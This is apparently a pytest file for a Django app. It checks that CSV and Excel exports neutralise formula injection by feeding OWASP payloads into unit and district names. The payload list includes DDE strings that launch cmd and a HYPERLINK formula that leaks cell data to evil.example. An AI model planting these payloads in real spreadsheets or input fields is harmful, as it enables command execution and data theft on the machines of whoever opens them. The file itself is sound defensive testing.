"""Exports that open right in Swedish Excel and run nothing (issue 18, point 6).

The OWASP CSV-injection payloads are put where people type text that reaches an export
(a unit's name and the district's name) and must come out as inert text in both formats.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bokvar.models import District, Unit
from steering import exports

pytestmark = pytest.mark.django_db

# OWASP "CSV Injection" payloads, and the leading tab and carriage return that the
# earlier escaping missed.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]


def _as(client, user):
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return client


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_every_payload(payload):
    assert exports.neutralise(payload) == "'" + payload
    assert exports.neutralise("Vuxenenheten") == "Vuxenenheten"
    assert exports.neutralise(-5) == -5  # numbers stay numbers


@pytest.fixture
def hostile_names(org, stats_cases):
    District.objects.filter(pk=org.district.pk).update(name=PAYLOADS[1])
    for kind, payload in zip(
        [Unit.Kind.SOCIAL_PSYCHIATRY, Unit.Kind.ELDERLY_CARE, Unit.Kind.DISABILITY],
        [PAYLOADS[0], PAYLOADS[5], PAYLOADS[6]],
        strict=True,
    ):
        Unit.objects.filter(pk=org.units[kind].pk).update(name=payload)


def test_csv_opens_in_swedish_excel_and_runs_nothing(client, steering, hostile_names):
    response = _as(client, steering).get(reverse("steering:export_csv"), {"period": "2026-03"})
    raw = response.content
    assert raw.startswith("\ufeff".encode())  # UTF-8 with a byte-order mark
    text = raw.decode("utf-8").removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:4] == ["Mått", "Enhet", "Kolumn", "Värde"]
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.lstrip(" ").startswith(exports.FORMULA_STARTS), repr(cell)
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[5] in cells and "'" + PAYLOADS[6] in cells
    # A decimal comma: the median of days is written 3,5, not 3.5.
    assert not any("." in c and c.replace(".", "").isdigit() for c in cells)


def test_csv_decimal_comma():
    report = {
        "period": {"key": "2026-03"},
        "figures": [
            {
                "title": "Days",
                "columns": [{"key": "median", "label": "Median days"}],
                "rows": [],
                "total": {"label": "District total", "cells": [{"value": 3.5, "display": "3.5"}]},
            }
        ],
    }
    assert ";3,5;" in exports.to_csv(report)


def test_workbook_writes_no_formula_and_formats_numbers(client, steering, hostile_names):
    response = _as(client, steering).get(reverse("steering:export_xlsx"), {"period": "2026-03"})
    book = load_workbook(io.BytesIO(response.content))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    about = book["Om rapporten"]
    district = about["B1"]
    assert district.value == PAYLOADS[1] and district.data_type == "s" and district.quotePrefix
    texts = [
        c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)
    ]
    for cell in texts:
        if cell.value.lstrip(" ").startswith(exports.FORMULA_STARTS):
            assert cell.quotePrefix, (cell.parent.title, cell.coordinate, cell.value)
    # Numbers are numbers with a format (thousand separators in Swedish Excel).
    counts = [
        c
        for row in book["Nya ärenden per slag"].iter_rows()
        for c in row
        if isinstance(c.value, int)
    ]
    assert counts and all(c.number_format == exports.COUNT_FORMAT for c in counts)
    # A sheet says, in words, how the figures are protected.
    protection = book["Så skyddas siffrorna"]
    words = " ".join(str(c.value) for row in protection.iter_rows() for c in row if c.value)
    assert "<5" in words and "version" in words
